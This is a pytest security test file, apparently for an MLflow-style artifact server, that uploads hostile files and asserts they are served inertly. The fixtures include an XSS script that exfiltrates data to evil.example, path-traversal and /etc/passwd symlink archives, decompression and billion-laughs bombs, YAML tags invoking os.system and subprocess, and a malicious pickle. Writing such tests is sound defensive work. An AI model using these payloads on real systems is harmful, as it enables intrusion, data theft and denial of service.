"""Attacks by what a file holds: pages and pictures that run, archives that burst, models that are code."""

import gzip
import io
import json
import resource
import tarfile
import zipfile

import psutil
import pytest
from tests.api.attacked import attacked

SCRIPT = b"<script>fetch('/api/v1/loop').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"
ACTIVE = {
    "page.html": b"<html>" + SCRIPT,
    "page.HTM": b"<html>" + SCRIPT,
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT,
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>",
    "feed.xml": b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?>" + SCRIPT,
    "sheet.xsl": SCRIPT,
    "paper.pdf": b"%PDF-1.4 /OpenAction",
    "code.js": b"alert(1)",
    "style.css": b"@import '//evil.example'",
    "manifest.webmanifest": b"{}",
    "mail.mht": SCRIPT,
    "help.hta": SCRIPT,
    "noending": b"<html>" + SCRIPT,
    "picture.png": b"<html>" + SCRIPT,
    "text.txt": b"<html>" + SCRIPT,
    "data.json": b"<html>" + SCRIPT,
    "page.html.": b"<html>" + SCRIPT,
    "page.html;x=.png": b"<html>" + SCRIPT,
    "notebook.ipynb": b'{"cells":[{"output_type":"html"}]}',
}
NEVER_SENT_AS = ("html", "svg", "xml", "javascript", "css", "pdf", "multipart")


@pytest.fixture(scope="module")
def target(tmp_path_factory):
    with attacked(tmp_path_factory.mktemp("files")) as opened:
        yield opened


def addresses(target, name):
    name = name.replace(";", "%3b")
    yield f"/get-artifact?run_id={target.run}&path={name}"
    yield f"/ajax-api/2.0/mlflow-artifacts/artifacts/{target.experiment}/{target.run}/artifacts/{name}"
    yield f"/api/2.0/mlflow-artifacts/artifacts/{target.experiment}/{target.run}/artifacts/{name}"
    yield f"/api/v1/runs/{target.run}/artifacts/{name}"


@pytest.mark.parametrize("name", ACTIVE)
def test_no_file_is_active_in_the_browser(target, name):
    assert (
        target.put(
            name.replace(";", "%3b"),
            ACTIVE[name],
        ).status
        == 200
    )
    for address in addresses(target, name):
        for span in (None, "bytes=0-10"):
            told = target.send("GET", address, range=span)
            assert told.status == (206 if span else 200), (address, told)
            assert told.headers["content-disposition"].startswith("attachment; filename=")
            assert told.headers["x-content-type-options"] == "nosniff"
            assert told.headers["content-security-policy"].startswith("sandbox;")
            assert "allow-scripts" not in told.headers["content-security-policy"]
            assert told.headers["cross-origin-resource-policy"] == "same-origin"
            assert not any(kind in told.headers["content-type"] for kind in NEVER_SENT_AS), told.headers


def test_the_type_that_an_upload_claims_is_not_the_type_it_is_sent_as(target):
    place = f"/api/2.0/mlflow-artifacts/artifacts/{target.experiment}/{target.run}/artifacts/claimed"
    assert target.send("PUT", place, SCRIPT, content_type="text/html").status == 200
    told = target.send("GET", f"/get-artifact?run_id={target.run}&path=claimed")
    assert told.headers["content-type"] == "application/octet-stream"


@pytest.mark.parametrize("name", ["page.html", "drawing.svg", "picture.png", "feed.xml", "text.txt", "data.json"])
def test_a_preview_is_text_in_json_and_no_page(target, name):
    target.put(name, ACTIVE[name])
    told = target.send("GET", f"/api/v1/runs/{target.run}/preview?path={name}")
    assert told.headers["content-type"] == "application/json"
    assert told.json["kind"] == "text"
    assert told.json["text"] == ACTIVE[name].decode()


def bombs():
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(200 << 20))
        archive.writestr("../../../escaped", b"planted")
    tarred = io.BytesIO()
    with tarfile.open(fileobj=tarred, mode="w:gz") as archive:
        for name, size in (("zeros", 200 << 20), ("../../escaped", 7)):
            about = tarfile.TarInfo(name)
            about.size = size
            archive.addfile(about, io.BytesIO(bytes(size)))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    deep = b"[" * 500_000 + b"]" * 500_000
    entities = (
        b"<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>"
        + b"".join(f"<!ENTITY b{n} '&b{n - 1 if n else ''};&a;'>".encode() for n in range(50))
        + b"]><x>&b49;</x>"
    )
    yield "bomb.zip", zipped.getvalue()
    yield "bomb.tar.gz", tarred.getvalue()
    yield "model.npz", zipped.getvalue()
    yield "bomb.csv", gzip.compress(bytes(200 << 20))
    yield "deep.json", deep
    yield "laughs.xml", entities
    yield "wide.csv", b"a," * 400_000 + b"\n" + b"1," * 400_000
    yield "quotes.csv", b'a,b\n"' + b"x" * 2_000_000
    yield "huge.json", b'[{"a":' + b"9" * 900_000 + b"}]"
    yield "image.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\xff" * 8 + bytes(1000)


BOMBS = dict(bombs())


@pytest.mark.parametrize("name", BOMBS)
def test_what_bursts_when_it_is_opened_is_never_opened(target, name):
    data = BOMBS[name]
    server = psutil.Process(target.up.process.pid)
    before = server.memory_info().rss
    assert target.put(name, data).status == 200
    told = target.send("GET", f"/api/v1/runs/{target.run}/preview?path={name}")
    assert told.status == 200
    assert len(told.body) < 4 << 20
    back = target.send("GET", f"/get-artifact?run_id={target.run}&path={name}")
    assert back.body == data
    assert server.memory_info().rss < before + (60 << 20)
    assert told.json["kind"] in ("none", "text", "table", "image")
    target.unharmed()


def test_a_table_that_lies_about_its_size_is_read_elsewhere_and_within_limits(target):
    import polars as pl

    buffer = io.BytesIO()
    pl.DataFrame({"a": pl.repeat(0, 50_000_000, eager=True, dtype=pl.Int64)}).write_parquet(buffer, compression="zstd")
    assert len(buffer.getvalue()) < 1 << 20
    server = psutil.Process(target.up.process.pid)
    assert target.put("bomb.parquet", buffer.getvalue()).status == 200
    before = server.memory_info().rss
    told = target.send("GET", f"/api/v1/runs/{target.run}/preview?path=bomb.parquet").json
    assert told["kind"] == "table", told
    assert len(told["rows"]) == 50
    assert told["cut"] is True
    assert server.memory_info().rss < before + (40 << 20)
    broken = buffer.getvalue()[:-200] + bytes(100) + buffer.getvalue()[-100:]
    assert target.put("broken.parquet", broken).status == 200
    told = target.send("GET", f"/api/v1/runs/{target.run}/preview?path=broken.parquet").json
    assert (told["kind"], told["rows"]) == ("none", [])
    assert "cannot be read" in told["reason"]
    assert resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY
    target.unharmed()


YAML = b"""artifact_path: model
flavors:
  python_function:
    loader_module: os
    python_version: !!python/object/apply:os.system ["touch planted"]
    code: !!python/object/new:subprocess.Popen [["touch", "planted"]]
model_uuid: &a [*a, *a]
saved_input_example_info: &b {k: *b}
"""


def test_a_models_description_is_bytes_and_never_run(target):
    """MLmodel files with tags that construct objects: kept, listed, sent back, and read by nothing that obeys them."""
    place = f"/api/2.0/mlflow-artifacts/artifacts/{target.experiment}/models/{target.model}/artifacts"
    octets = {"content_type": "application/octet-stream"}
    assert target.send("PUT", f"{place}/MLmodel", YAML, **octets).status == 200
    pickled = b"cos\nsystem\n(S'touch planted'\ntR."
    assert target.send("PUT", f"{place}/model.pkl", pickled, **octets).status == 200
    target.send("PATCH", f"/api/2.0/mlflow/logged-models/{target.model}", json.dumps({"status": 2}).encode())
    target.post("registered-models/create", {"name": "hostile"})
    source = f"models:/{target.model}"
    target.post(
        "model-versions/create", {"name": "hostile", "source": source, "model_id": target.model, "run_id": target.run}
    )
    for path in (
        "/models",
        "/models/hostile",
        f"/runs/{target.run}",
        f"/api/v1/logged-models/{target.model}/preview?path=MLmodel",
    ):
        assert target.send("GET", path).status in (200, 404), path
    folder = f"/api/2.0/mlflow/logged-models/{target.model}/artifacts"
    assert {one["path"] for one in target.send("GET", f"{folder}/directories").json["files"]} == {"MLmodel", "model.pkl"}
    assert target.send("GET", f"{folder}/files?artifact_file_path=MLmodel").body == YAML
    assert not list(target.outside.rglob("planted"))
    target.unharmed()
